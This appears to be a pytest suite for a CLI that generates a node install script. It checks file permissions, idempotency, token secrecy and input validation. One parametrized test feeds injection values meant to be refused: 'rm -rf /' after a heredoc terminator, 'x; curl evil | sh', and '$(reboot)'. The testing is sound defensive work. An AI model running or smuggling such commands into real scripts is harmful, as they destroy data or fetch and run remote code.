"""`shoal node install-script`: the script it generates, run by bash under a scratch root
(SHOAL_ROOT) with apt-get, dpkg-query, systemctl and python3 stubbed on PATH
(tests/fixtures/host_stubs.py): the files it writes and their modes, idempotency, the refusal
to re-install for another cluster, the token never on a command line, and bad input refused
naming the flag. The same script runs as root in a Debian container in
tests/integration/test_install_script_container.py."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from shoalctl.anywhere import HostSettings, InstallScriptError, render
from shoalctl.cli.main import main
from tests.fixtures.host_stubs import write_stubs

REPO = Path(__file__).resolve().parents[2]
TOKEN = "SHL1abcdef.0123456789-secret"


def settings(**kw: object) -> HostSettings:
    base: dict[str, object] = {"token": TOKEN, "join": "10.0.0.5:7400", "package": "/srv/shoal-0.1.0.whl",
                               "cluster": "prod", "name": "edge-1", "attributes": {"rack": "r7"}}
    base.update(kw)
    return HostSettings(**base)  # type: ignore[arg-type]


class Host:
    """A scratch root and the stubs' log and state."""

    def __init__(self, tmp: Path) -> None:
        self.root = tmp / "root"
        self.root.mkdir()
        self.bin = tmp / "bin"
        write_stubs(self.bin)
        self.state = tmp / "state"
        self.state.mkdir()
        self.log = tmp / "calls.log"

    def run(self, script: str, **env: str) -> subprocess.CompletedProcess[str]:
        path = self.root.parent / "install.sh"
        path.write_text(script)
        full = {"PATH": f"{self.bin}:/usr/bin:/bin", "SHOAL_ROOT": str(self.root), "SHOAL_STUB_LOG": str(self.log),
                "SHOAL_STUB_STATE": str(self.state), **env}
        return subprocess.run(["bash", str(path)], env=full, capture_output=True, text=True, timeout=60)

    def calls(self) -> list[str]:
        lines = self.log.read_text().splitlines() if self.log.exists() else []
        self.log.unlink(missing_ok=True)
        return lines

    def file(self, path: str) -> Path:
        return self.root / path.lstrip("/")


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


def test_first_run_installs_docker_and_the_agent_and_writes_unit_and_env(host: Host) -> None:
    result = host.run(render(settings()))
    assert result.returncode == 0, result.stderr
    calls = host.calls()
    install = next(c for c in calls if c.startswith("apt-get install"))
    assert install.split()[-3:] == ["ca-certificates", "python3-venv", "docker.io"]
    assert "python3 -m venv " + str(host.file("/opt/shoal-venv")) in calls
    assert any(c.startswith("venv-python -m pip install") and c.endswith(" /srv/shoal-0.1.0.whl") for c in calls)
    for expected in ("systemctl daemon-reload", "systemctl enable --now --quiet docker",
                     "systemctl enable --quiet shoal-agent", "systemctl restart shoal-agent"):
        assert expected in calls
    env = host.file("/etc/default/shoal-agent")
    assert oct(env.stat().st_mode & 0o777) == "0o600"
    lines = env.read_text().splitlines()
    assert ('SHOAL_AGENT_ARGS="--join 10.0.0.5:7400 --cluster prod --name edge-1 --attribute rack=r7"'
            in lines)
    assert f"SHOAL_JOIN_TOKEN={TOKEN}" in lines
    unit = host.file("/etc/systemd/system/shoal-agent.service")
    assert unit.read_text() == (REPO / "deploy/systemd/shoal-agent.service").read_text()
    assert oct(unit.stat().st_mode & 0o777) == "0o644"
    assert host.file("/var/lib/shoal/install-cluster").read_text() == "prod\n"
    assert "joining cluster prod at 10.0.0.5:7400 as edge-1" in result.stderr
    # The token was never an argument of any command the script ran.
    assert not any(TOKEN in c for c in calls)


def test_second_run_changes_nothing(host: Host) -> None:
    script = render(settings())
    assert host.run(script).returncode == 0
    host.calls()
    env = host.file("/etc/default/shoal-agent")
    before = {p: p.stat().st_mtime_ns for p in (env, host.file("/etc/systemd/system/shoal-agent.service"))}
    again = host.run(script)
    assert again.returncode == 0, again.stderr
    calls = host.calls()
    assert not any(c.startswith(("apt-get", "python3", "venv-python")) for c in calls), calls
    assert "systemctl restart shoal-agent" not in calls
    assert "unchanged: shoal-agent already configured for cluster prod" in again.stderr
    assert {p: p.stat().st_mtime_ns for p in before} == before
    # A changed setting (a new attribute) rewrites the env file and restarts the agent.
    third = host.run(render(settings(attributes={"rack": "r8"})))
    assert third.returncode == 0 and "systemctl restart shoal-agent" in host.calls()
    assert "--attribute rack=r8" in env.read_text()


def test_refuses_to_run_again_for_another_cluster(host: Host) -> None:
    assert host.run(render(settings())).returncode == 0
    env = host.file("/etc/default/shoal-agent").read_text()
    host.calls()
    other = host.run(render(settings(cluster="staging")))
    assert other.returncode == 1
    assert "already installed for cluster 'prod', not 'staging'" in other.stderr
    assert host.calls() == []  # nothing installed, written or restarted
    assert host.file("/etc/default/shoal-agent").read_text() == env


def test_needs_root_without_a_scratch_root(host: Host) -> None:
    if os.geteuid() == 0:
        pytest.skip("runs as root here: the root check cannot refuse")
    result = host.run(render(settings()), SHOAL_ROOT="")
    assert result.returncode == 1 and "run as root" in result.stderr


def test_a_capacity_provider_host_gets_the_attribute(host: Host) -> None:
    assert main(["node", "install-script", "--token", TOKEN, "--package", "shoal==0.1.0", "--join", "cp:7400",
                 "--capacity-provider", "onprem", "-o", str(host.root.parent / "out.sh")]) == 0
    out = host.root.parent / "out.sh"
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    assert host.run(out.read_text()).returncode == 0
    assert "--attribute shoal.capacity-provider=onprem" in host.file("/etc/default/shoal-agent").read_text()


def test_agent_ports_and_the_node_proxy_reach_the_agents_flags(host: Host) -> None:
    script = render(settings(address="10.0.0.9", metrics_port=7402, proxy=True, proxy_metrics_port=7403))
    assert host.run(script).returncode == 0
    env = host.file("/etc/default/shoal-agent").read_text()
    assert "--address 10.0.0.9 --metrics-address 0.0.0.0 --attribute rack=r7 --metrics-port 7402 --proxy " \
           "--proxy-metrics-port 7403\"" in env, env
    assert "--proxy" not in render(settings()) and "--metrics-port" not in render(settings()), "both are opt-in"


@pytest.mark.parametrize(("change", "words"), [
    ({"token": "short"}, "--token: expected 16-512 characters"),
    ({"token": TOKEN + "\nSHOAL_TOKEN_EOF\nrm -rf /"}, "--token: expected"),
    ({"join": "cp"}, "--join: expected HOST:PORT"),
    ({"cluster": "a b"}, "--cluster: expected letters"),
    ({"package": ""}, "--package: a pip requirement"),
    ({"package": "x; curl evil | sh"}, "--package: a pip requirement"),
    ({"name": "$(reboot)"}, "--name: expected a lowercase hostname"),
    ({"attributes": {"k": "two words"}}, "--attribute k: values are"),
    ({"attributes": {"bad name": "v"}}, "--attribute 'bad name': names are"),
    ({"metrics_port": 70000}, "--metrics-port: expected a port"),
    ({"proxy": True, "proxy_metrics_port": -1}, "--proxy-metrics-port: expected a port"),
    ({"proxy_metrics_port": 7403}, "--proxy-metrics-port: needs --proxy"),
])
def test_bad_settings_are_refused_naming_the_flag(change: dict, words: str) -> None:
    with pytest.raises(InstallScriptError) as caught:
        render(settings(**change))
    assert str(caught.value).startswith(words), caught.value


def test_the_cli_reads_the_token_from_a_file_or_stdin_and_names_what_is_missing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SHOAL_JOIN_TOKEN", raising=False)
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN + "\n")
    main(["node", "install-script", "--token-file", str(token_file), "--package", "shoal==0.1.0",
          "--join", "cp:7400"])
    script = capsys.readouterr().out
    assert script.startswith("#!/usr/bin/env bash") and f"\n{TOKEN}\n" in script
    assert main(["node", "install-script", "--package", "shoal==0.1.0", "--join", "cp:7400"]) == 1
    assert "a join token is required: --token-file" in capsys.readouterr().err
    assert main(["node", "install-script", "--token", "bad token", "--package", "p", "--join", "cp:7400"]) == 1
    assert "--token: expected" in capsys.readouterr().err
    assert main(["node", "install-script", "--token-file", str(tmp_path / "nope"), "--package", "p"]) == 1
    assert "--token-file: No such file or directory" in capsys.readouterr().err


def test_the_packaged_unit_is_deploys_unit_and_the_script_passes_bash_n_and_shellcheck(tmp_path: Path) -> None:
    packaged = REPO / "shoalctl/anywhere/shoal-agent.service"
    assert packaged.read_text() == (REPO / "deploy/systemd/shoal-agent.service").read_text()
    path = tmp_path / "install.sh"
    path.write_text(render(settings()))
    assert subprocess.run(["bash", "-n", str(path)], capture_output=True).returncode == 0
    shellcheck = shutil.which("shellcheck")
    if shellcheck:
        r = subprocess.run([shellcheck, "-S", "warning", str(path)], capture_output=True, text=True)
        assert r.returncode == 0, r.stdout
